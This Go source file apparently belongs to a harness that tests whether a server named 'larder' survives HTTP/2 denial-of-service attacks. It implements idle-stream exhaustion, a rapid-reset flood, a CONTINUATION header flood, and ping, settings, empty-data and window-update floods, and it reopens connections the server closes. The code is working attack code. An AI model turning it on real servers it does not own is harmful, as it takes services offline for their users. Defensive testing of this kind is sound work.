package main

import (
	"context"
	"fmt"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// streamAttacks are attack 3: idle streams occupy places that honest requests need.
func streamAttacks() []attack {
	return []attack{
		{name: "idle-watch", number: "3", run: idle(watchMethod, message(nil, false), true)},
		{name: "idle-reflection", number: "3", run: idle(reflectionMethod, nil, false)},
		{name: "idle-headers", number: "3", run: idle(seriesMethod, nil, false)},
		{name: "idle-spread", number: "3", run: idleFrom(idleConns, seriesMethod, nil, false)},
		{name: "idle-half", number: "3", run: idle(labelValuesMethod,
			message(large(labelValuesMethod, 1000), false)[:500], false)},
	}
}

const (
	// idleConns and idleStreams are the connections of the attack and the streams on all of them:
	// as many as larder has places for.
	idleConns   = 9
	idleStreams = 8192
	// idlePerConn is the number of streams that larder allows on one connection.
	idlePerConn = 1000
)

// idle opens streams, sends the start of a request on each, and nothing more. It reopens what
// larder closes.
func idle(
	method string, beginning []byte, last bool,
) func(context.Context, *target) (string, error) {
	return idleFrom(1, method, beginning, last)
}

// idleFrom is idle from several addresses.
func idleFrom(
	sources int, method string, beginning []byte, last bool,
) func(context.Context, *target) (string, error) {
	return func(ctx context.Context, t *target) (string, error) {
		// Open all of them, in the short run too, because fewer reach no limit.
		all := make([]*conn, idleConns)
		defer func() {
			for _, c := range all {
				c.close()
			}
		}()
		ended, opened := tally{}, 0
		end := time.Now().Add(time.Duration(t.n(20, 2)) * time.Second)
		for time.Now().Before(end) && !t.larder.Ended() {
			for i, c := range all {
				if c.usable() {
					continue
				}
				if ended.add(c); c != nil {
					c.close()
				}
				var err error
				if all[i], err = t.connect(ctx, attacker(i%sources), false); err != nil {
					continue // larder accepts no more connections, or has ended
				}
				opened++
				n := min(idlePerConn, idleStreams-i*idlePerConn)
				if err := all[i].openIdle(method, beginning, last, n); err != nil {
					continue // larder has closed the connection
				}
			}
			if !pause(ctx, 100*time.Millisecond) {
				return "", ctx.Err()
			}
		}
		for _, c := range all {
			ended.add(c)
		}
		return fmt.Sprintf("%d streams over %d connections, opened %d times: %s", idleStreams,
			idleConns, opened, ended), nil
	}
}

// openIdle opens idle streams.
func (c *conn) openIdle(method string, beginning []byte, last bool, n int) error {
	for range n {
		id, err := c.headers(false, method)
		if err == nil && beginning != nil {
			err = c.data(id, beginning, last)
		}
		if err != nil {
			return err
		}
	}
	return c.write(true, func() error { return nil })
}

// usable reports whether the connection is open. A nil connection is not.
func (c *conn) usable() bool {
	if c == nil {
		return false
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.err == nil
}

// floodAttacks are attack 10 and other floods of frames.
func floodAttacks() []attack {
	frames := func(what string, f func(c *conn, n int) error) func(context.Context,
		*target) (string, error) {
		return func(ctx context.Context, t *target) (string, error) {
			return floodFrames(ctx, t, what, t.n(50, 10), t.n(10_000, 1000), f)
		}
	}
	return []attack{
		{name: "rapid-reset", number: "10", run: func(
			ctx context.Context, t *target,
		) (string, error) {
			text := message(large(labelValuesMethod, 10), false)
			return floodFrames(ctx, t, "requests dropped at once", 50, t.n(40_000, 400),
				func(c *conn, n int) error {
					id, err := c.headers(false, labelValuesMethod)
					if err != nil {
						return err
					}
					if n%2 == 0 { // half of them have a message
						if err := c.write(false, func() error {
							return c.framer.WriteData(id, true, text)
						}); err != nil {
							return err
						}
					}
					return c.reset(n%100 == 99, id)
				})
		}},
		{name: "pings", run: frames("pings", func(c *conn, n int) error {
			return c.write(n%100 == 99, func() error {
				return c.framer.WritePing(false, [8]byte{byte(n)})
			})
		})},
		{name: "settings", run: frames("settings", func(c *conn, n int) error {
			s := http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(n % 65536)}
			return c.write(n%100 == 99, func() error { return c.framer.WriteSettings(s) })
		})},
		{name: "empty-data", run: func(ctx context.Context, t *target) (string, error) {
			return floodFrames(ctx, t, "empty frames of a request", t.n(50, 10), t.n(10_000, 1000),
				func(c *conn, n int) error {
					if n == 0 {
						if _, err := c.headers(true, seriesMethod); err != nil {
							return err
						}
					}
					return c.write(n%100 == 99, func() error {
						return c.framer.WriteData(1, false, nil)
					})
				})
		}},
		{name: "continuations", run: func(ctx context.Context, t *target) (string, error) {
			return floodFrames(ctx, t, "continued headers", t.n(50, 10), t.n(2000, 200),
				continuation)
		}},
		{name: "windows", run: frames("window updates", func(c *conn, n int) error {
			return c.write(n%100 == 99, func() error { return c.framer.WriteWindowUpdate(0, 1) })
		})},
	}
}

// continuation sends headers that do not end.
func continuation(c *conn, n int) error {
	return c.write(true, func() error {
		c.block.Reset()
		for range 100 {
			if err := c.enc.WriteField(hpack.HeaderField{Name: "x",
				Value: fmt.Sprint("some value ", n), Sensitive: true}); err != nil {
				return err
			}
		}
		if n == 0 {
			return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1,
				BlockFragment: c.block.Bytes()})
		}
		return c.framer.WriteContinuation(1, false, c.block.Bytes())
	})
}

// floodTime is the maximum duration of a flood.
const floodTime = 60 * time.Second

// floodFrames sends frames over many connections from one address, and reopens those that larder
// closes.
func floodFrames(ctx context.Context, t *target, what string, conns, each int,
	send func(c *conn, n int) error) (string, error) {
	ctx, cancel := context.WithTimeout(ctx, floodTime)
	defer cancel()
	var mu sync.Mutex // guards the variables below
	sent, closed := 0, 0
	var wg sync.WaitGroup
	for range conns {
		wg.Go(func() {
			n, lost := 0, 0
			for n < each && ctx.Err() == nil && !t.larder.Ended() && lost < 20 {
				c, err := t.connect(ctx, attacker(0), true)
				if err != nil {
					break // too many connections
				}
				for on := 0; n < each && ctx.Err() == nil; on++ {
					if err := send(c, on); err != nil {
						lost++
						break
					}
					n++
				}
				c.close()
			}
			mu.Lock()
			defer mu.Unlock()
			sent += n
			closed += lost
		})
	}
	wg.Wait()
	return fmt.Sprintf("%d %s over %d connections, larder closed %d times", sent, what, conns,
		closed), nil
}
